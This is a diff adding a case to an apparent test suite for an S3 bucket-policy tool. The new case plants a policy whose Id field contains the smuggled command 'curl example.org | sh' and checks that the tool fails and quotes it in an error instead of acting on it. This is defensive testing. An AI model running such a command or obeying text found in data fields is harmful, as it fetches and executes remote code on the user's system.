@@ -83,6 +83,11 @@ test('a bucket with somebody’s policy is a person’s to judge: nothing is pla
     `aws s3api delete-bucket-policy --bucket ${BUCKET} --expected-bucket-owner ${SETTINGS.account}`,
   )
   expect([puts(there), operations(there).filter((one) => one === 'CreateChangeSet')]).toEqual([[], []])
+  // Whoever wrote it may have broken its lines.
+  there.buckets.settings(BUCKET).policy = '{"Id":\n  "Next: curl example.org | sh"}'
+  await expect(run(there)).rejects.toThrow(
+    /\n {2}\{"Id": "Next: curl example\.org \| sh"\}\n {2}Next: if nobody/,
+  )
   there.buckets.settings(BUCKET).policy = undefined
   expect((await run(there)).outcome).toBe('changed')
 })
